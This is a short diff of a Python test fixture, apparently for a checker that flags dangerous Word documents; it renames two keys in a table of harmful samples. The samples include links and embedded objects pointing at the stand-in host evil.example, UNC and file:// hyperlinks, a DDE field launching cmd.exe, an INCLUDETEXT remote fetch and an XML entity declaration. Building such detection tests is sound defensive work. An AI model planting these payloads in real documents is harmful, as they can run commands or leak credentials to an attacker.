@@ -36,8 +36,8 @@ HARMFUL_WORD: dict[str, dict[str, bytes | str]] = {
     "连着外面   ": {
         RELS: relation("oleObject", "http://evil.example/x")[:0] + relation("frame", "http://evil.example/x")
     },
-    "连着外面    ": {RELS: relation("hyperlink", r"\\evil.example\share")},
-    "连着外面     ": {RELS: relation("hyperlink", "file://evil.example/share")},
+    "里有打开本机或别处文件的超链接": {RELS: relation("hyperlink", r"\\evil.example\share")},
+    "里有打开本机或别处文件的超链接 ": {RELS: relation("hyperlink", "file://evil.example/share")},
     "连着外面      ": {DOCUMENT: instruction(BEGIN + piece("DDE") + piece("AUTO c:\\windows\\cmd.exe"))},
     "连着外面       ": {DOCUMENT: instruction('<w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x "/>')},
     "打不开或者": {DOCUMENT: '<!DOCTYPE a [<!ENTITY b "c">]><a instr="">&b;</a>'},
